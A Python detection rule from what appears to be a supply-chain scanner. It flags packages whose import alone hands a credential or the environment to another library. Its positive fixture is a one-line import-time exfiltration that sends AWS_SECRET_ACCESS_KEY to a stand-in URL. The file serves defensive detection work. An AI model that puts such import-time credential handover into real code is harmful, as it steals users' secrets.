"""Import alone hands a secret to a library."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import HOLD, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for given in view.of(v.HANDOVER, by_itself=True):
        what = "the environment" if "env" in given.taints else "a credential"
        along = " along with a URL" if "url" in given.flags else ""
        yield Hit(
            f"as soon as it is imported it hands {what} to {given.detail}{along}",
            (given,),
            HOLD if along else REVIEW,
        )


RULE = Rule(
    name="credential-handover",
    description=(
        "A credential, or the whole environment, is given to another library by code that import alone runs; "
        "what that does with it is not read here."
    ),
    grade=REVIEW,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import os, tables\n"
            "tables.fetch('https://example.test/?' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
        )
    },
    quiet={
        "acme/__init__.py": (
            "import os, tables\n\ndef client():\n    return tables.Client(os.environ['ACME_API_KEY'])\n"
        )
    },
    rates="28 of 990 malicious clusters, 5 of 706 popular archives and ones drawn at random",
)
